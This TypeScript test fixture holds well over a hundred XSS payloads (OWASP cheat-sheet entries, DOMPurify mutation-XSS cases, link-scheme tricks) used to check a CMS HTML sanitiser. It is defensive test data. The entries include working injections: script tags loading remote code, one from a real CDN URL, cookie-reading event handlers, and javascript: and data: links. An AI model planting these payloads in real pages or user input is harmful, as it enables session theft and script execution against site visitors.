/**
 * Known XSS payloads for the CMS sanitiser test (commerce-reliability check 41): the OWASP XSS Filter Evasion Cheat
 * Sheet, the DOMPurify mutation-XSS regressions (namespace confusion through svg/math, raw-text elements, comments,
 * nesting depth) and link-scheme tricks. Each is cleaned and checked: no script, handler, style, embedded or foreign
 * element, and no `javascript:`, `data:` or `vbscript:` URL.
 */
export type XssPayload = { source: 'owasp' | 'dompurify' | 'scheme'; name: string; html: string }

const owasp = (name: string, html: string): XssPayload => ({ source: 'owasp', name, html })
const dompurify = (name: string, html: string): XssPayload => ({ source: 'dompurify', name, html })
const scheme = (name: string, html: string): XssPayload => ({ source: 'scheme', name, html })

export const XSS_PAYLOADS: readonly XssPayload[] = [
  // --- OWASP XSS Filter Evasion Cheat Sheet ------------------------------------------------------------------
  owasp(
    'basic script',
    String.raw`<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
  ),
  owasp(
    'polyglot',
    String.raw`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(42);//'>`,
  ),
  owasp('img javascript', String.raw`<IMG SRC="javascript:alert('XSS');">`),
  owasp('img no quotes', String.raw`<IMG SRC=javascript:alert('XSS')>`),
  owasp('case insensitive', String.raw`<IMG SRC=JaVaScRiPt:alert('XSS')>`),
  owasp('html entities', String.raw`<IMG SRC=javascript:alert(&quot;XSS&quot;)>`),
  owasp('grave accents', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>'),
  owasp('malformed a', String.raw`<a onmouseover="alert(document.cookie)">xxs link</a>`),
  owasp('malformed a unquoted', String.raw`<a onmouseover=alert(document.cookie)>xxs link</a>`),
  owasp('malformed img', String.raw`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`),
  owasp('fromCharCode', String.raw`<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`),
  owasp('default src', String.raw`<IMG SRC=# onmouseover="alert('xxs')">`),
  owasp('empty src', String.raw`<IMG SRC= onmouseover="alert('xxs')">`),
  owasp('no src', String.raw`<IMG onmouseover="alert('xxs')">`),
  owasp('onerror', String.raw`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`),
  owasp(
    'onerror encoded',
    String.raw`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  ),
  owasp(
    'decimal entities',
    String.raw`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">x</a>`,
  ),
  owasp(
    'decimal entities without semicolons',
    String.raw`<a href=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>x</a>`,
  ),
  owasp(
    'hex entities without semicolons',
    String.raw`<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>x</a>`,
  ),
  owasp('embedded tab', `<a href="jav\tascript:alert('XSS');">x</a>`),
  owasp('embedded encoded tab', String.raw`<a href="jav&#x09;ascript:alert('XSS');">x</a>`),
  owasp('embedded newline', String.raw`<a href="jav&#x0A;ascript:alert('XSS');">x</a>`),
  owasp('embedded carriage return', String.raw`<a href="jav&#x0D;ascript:alert('XSS');">x</a>`),
  owasp('null breaks up directive', `<a href=java\0script:alert("XSS")>x</a>`),
  owasp('spaces and meta chars', String.raw`<a href=" &#14;  javascript:alert('XSS');">x</a>`),
  owasp('non-alpha non-digit', String.raw`<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`),
  owasp('body onload chars', String.raw`<BODY onload!#$%&()*~+-_.,:;?@[/|\]^` + '`=alert("XSS")>'),
  owasp('script slash src', String.raw`<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`),
  owasp('extraneous open brackets', String.raw`<<SCRIPT>alert("XSS");//\<</SCRIPT>`),
  owasp('no closing script', String.raw`<SCRIPT SRC=http://xss.rocks/xss.js?< B >`),
  owasp('protocol resolution', String.raw`<SCRIPT SRC=//xss.rocks/.j>`),
  owasp('half open', String.raw`<IMG SRC="` + '`<javascript:alert>`' + String.raw`('XSS')"`),
  owasp('double open angle', String.raw`<iframe src=http://xss.rocks/scriptlet.html <`),
  owasp('end title tag', String.raw`</TITLE><SCRIPT>alert("XSS");</SCRIPT>`),
  owasp('input image', String.raw`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`),
  owasp('body background', String.raw`<BODY BACKGROUND="javascript:alert('XSS')">`),
  owasp('img dynsrc', String.raw`<IMG DYNSRC="javascript:alert('XSS')">`),
  owasp('img lowsrc', String.raw`<IMG LOWSRC="javascript:alert('XSS')">`),
  owasp(
    'list-style-image',
    String.raw`<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  ),
  owasp('vbscript image', String.raw`<IMG SRC='vbscript:msgbox("XSS")'>`),
  owasp('svg onload', String.raw`<svg/onload=alert('XSS')>`),
  owasp('body onload', String.raw`<BODY ONLOAD=alert('XSS')>`),
  owasp('bgsound', String.raw`<BGSOUND SRC="javascript:alert('XSS');">`),
  owasp('ampersand js', String.raw`<BR SIZE="&{alert('XSS')}">`),
  owasp('link stylesheet', String.raw`<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`),
  owasp('remote stylesheet', String.raw`<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">`),
  owasp('style import', String.raw`<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`),
  owasp(
    'meta link header',
    String.raw`<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
  ),
  owasp('moz-binding', String.raw`<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`),
  owasp('style import escaped', String.raw`<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>`),
  owasp('style expression', String.raw`<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`),
  owasp('style type js', String.raw`<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`),
  owasp(
    'style class background',
    String.raw`<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  ),
  owasp(
    'style body background',
    String.raw`<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`,
  ),
  owasp('behavior', String.raw`<XSS STYLE="behavior: url(xss.htc);">`),
  owasp('meta refresh', String.raw`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`),
  owasp(
    'meta refresh data',
    String.raw`<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  ),
  owasp('iframe', String.raw`<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`),
  owasp('iframe event', String.raw`<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`),
  owasp('frameset', String.raw`<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`),
  owasp('table background', String.raw`<TABLE BACKGROUND="javascript:alert('XSS')">`),
  owasp('td background', String.raw`<TABLE><TD BACKGROUND="javascript:alert('XSS')">`),
  owasp('div background-image', String.raw`<DIV STYLE="background-image: url(javascript:alert('XSS'))">`),
  owasp(
    'div background unicode',
    String.raw`<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">`,
  ),
  owasp('div expression', String.raw`<DIV STYLE="width: expression(alert('XSS'));">`),
  owasp('downlevel-hidden', String.raw`<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`),
  owasp('base tag', String.raw`<BASE HREF="javascript:alert('XSS');//">`),
  owasp(
    'object',
    String.raw`<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  ),
  owasp(
    'embed svg data',
    String.raw`<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KCJYU1MiKTs8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  ),
  owasp(
    'xml data island',
    String.raw`<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`,
  ),
  owasp(
    'html+time',
    String.raw`<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>"></BODY></HTML>`,
  ),
  owasp('script jpg', String.raw`<SCRIPT SRC="http://xss.rocks/xss.jpg"></SCRIPT>`),
  owasp(
    'ssi',
    String.raw`<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=http://xss.rocks/xss.js></SCRIPT>'"-->`,
  ),
  owasp('php', String.raw`<? echo('<SCR)'; echo('IPT>alert("XSS")</SCRIPT>'); ?>`),
  owasp(
    'cookie manipulation',
    String.raw`<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">`,
  ),
  owasp('attribute with gt 1', String.raw`<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`),
  owasp('attribute with gt 2', String.raw`<SCRIPT ="blah" SRC="httx://xss.rocks/xss.js"></SCRIPT>`),
  owasp('attribute with gt 3', String.raw`<SCRIPT a="blah" '' SRC="httx://xss.rocks/xss.js"></SCRIPT>`),
  owasp('attribute with gt 4', String.raw`<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`),
  owasp('attribute with gt 5', '<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>'),
  owasp('attribute with gt 6', String.raw`<SCRIPT a=">'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>`),
  owasp(
    'document.write split',
    String.raw`<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  ),
  owasp('details ontoggle', String.raw`<details open ontoggle=alert(1)>`),
  owasp('video source onerror', String.raw`<video><source onerror="alert(1)">`),
  owasp('form action', String.raw`<form action="javascript:alert(1)"><button>x</button></form>`),
  owasp('button formaction', String.raw`<button formaction="javascript:alert(1)">x</button>`),
  owasp('isindex', String.raw`<isindex action="javascript:alert(1)" type=image>`),
  owasp('iframe srcdoc', String.raw`<iframe srcdoc="<script>alert(1)</script>"></iframe>`),
  owasp('unclosed img', String.raw`<img src=x onerror=alert(1)//`),
  owasp(
    'anchor with style and onclick',
    String.raw`<a href="/ok" style="position:fixed;inset:0" onclick="alert(1)">x</a>`,
  ),

  // --- DOMPurify mutation-XSS regressions ---------------------------------------------------------------------
  dompurify('svg p style', String.raw`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`),
  dompurify(
    'math mtext table mglyph style',
    String.raw`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  ),
  dompurify(
    'form math mtext',
    String.raw`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  ),
  dompurify(
    'math h1 a h6 mglyph svg',
    String.raw`<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='alert(1)'>"></style></h1>`,
  ),
  dompurify('noscript title', String.raw`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`),
  dompurify('svg style img', String.raw`<svg><style><img src=x onerror=alert(1)></style></svg>`),
  dompurify(
    'math mglyph style',
    String.raw`<math><mi><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mi></math>`,
  ),
  dompurify(
    'svg animate href',
    String.raw`<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">click</text></a></svg>`,
  ),
  dompurify('svg set handler', String.raw`<svg><set attributeName="onmouseover" to="alert(1)"/></svg>`),
  dompurify('template img', String.raw`<template><img src=x onerror=alert(1)></template>`),
  dompurify(
    'textarea title',
    String.raw`<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
  ),
  dompurify('xmp title', String.raw`<xmp><img title="</xmp><img src=x onerror=alert(1)>">`),
  dompurify('style in style', String.raw`<style><style/><img src=x onerror=alert(1)>`),
  dompurify(
    'select template style comment',
    String.raw`<select><template><style><!--</style><a rel="--></template></select><img src=x onerror=alert(1)>">`,
  ),
  dompurify(
    'svg foreignObject',
    String.raw`<svg><foreignObject><p><img src=x onerror=alert(1)></p></foreignObject></svg>`,
  ),
  dompurify(
    'svg desc style',
    String.raw`<svg><desc><style><img src=x onerror=alert(1)></style></desc></svg>`,
  ),
  dompurify(
    'annotation-xml',
    String.raw`<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>`,
  ),
  dompurify('comment in attribute', String.raw`<!--<img src="--><img src=x onerror=alert(1)//">`),
  dompurify('math href', String.raw`<math href="javascript:alert(1)">CLICK</math>`),
  dompurify(
    'title attribute with markup',
    String.raw`<a title="</a><img src=x onerror=alert(1)>" href="/ok">x</a>`,
  ),
  dompurify('processing instruction', String.raw`<?xml-stylesheet > <img src=x onerror="alert(1)"> ?>`),
  dompurify('cdata', String.raw`<![CDATA[><img src=x onerror=alert(1)>]]>`),
  dompurify('nesting depth', `${'<div>'.repeat(600)}<img src=x onerror=alert(1)>${'</div>'.repeat(600)}`),
  dompurify(
    'deep list nesting',
    `${'<ul><li>'.repeat(300)}<a href="javascript:alert(1)">x</a>${'</li></ul>'.repeat(300)}`,
  ),
  dompurify(
    'table foster parenting',
    String.raw`<table><a href="javascript:alert(1)"><tr><td>x</td></tr></a></table>`,
  ),
  dompurify('is attribute', String.raw`<p is="x-evil" onclick="alert(1)">x</p>`),
  dompurify('dom clobbering', String.raw`<a id="location" name="location" href="javascript:alert(1)">x</a>`),
  dompurify('unicode line separator in handler', '<p onclick\u2028="alert(1)">x</p>'),
  dompurify('closing comment variants', String.raw`<!--!><img src=x onerror=alert(1)>-->`),
  dompurify('html entity in tag name', String.raw`<scr&#105;pt>alert(1)</scr&#105;pt>`),

  // --- Link-scheme tricks --------------------------------------------------------------------------------------
  scheme('named colon entity', String.raw`<a href="javascript&colon;alert(1)">x</a>`),
  scheme('hex j', String.raw`<a href="&#x6A;avascript:alert(1)">x</a>`),
  scheme('data html', String.raw`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`),
  scheme('data svg', String.raw`<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>`),
  scheme('vbscript', String.raw`<a href="vbscript:msgbox(1)">x</a>`),
  scheme('leading spaces', String.raw`<a href="  javascript:alert(1)">x</a>`),
  scheme('NewLine entity', String.raw`<a href="java&NewLine;script:alert(1)">x</a>`),
  scheme('Tab entity', String.raw`<a href="&Tab;javascript:alert(1)">x</a>`),
  scheme('decimal colon without semicolon', String.raw`<a href="javascript&#58alert(1)">x</a>`),
  scheme('control char prefix', String.raw`<a href="&#1;javascript:alert(1)">x</a>`),
  scheme('protocol relative', String.raw`<a href="//evil.example/">x</a>`),
  scheme('backslash protocol relative', String.raw`<a href="\\evil.example">x</a>`),
  scheme('mixed slashes', String.raw`<a href="/\evil.example">x</a>`),
  scheme('uppercase entity scheme', String.raw`<a href="&#74;AVASCRIPT:alert(1)">x</a>`),
  scheme('livescript', String.raw`<a href="livescript:alert(1)">x</a>`),
  scheme('file', String.raw`<a href="file:///etc/passwd">x</a>`),
  scheme(
    'markup in relative href (found by the property test)',
    String.raw`<a href="<javascript:<a href="<p>`,
  ),
  scheme('script scheme after a path', String.raw`<a href="/x/javascript:alert(1)">x</a>`),
]
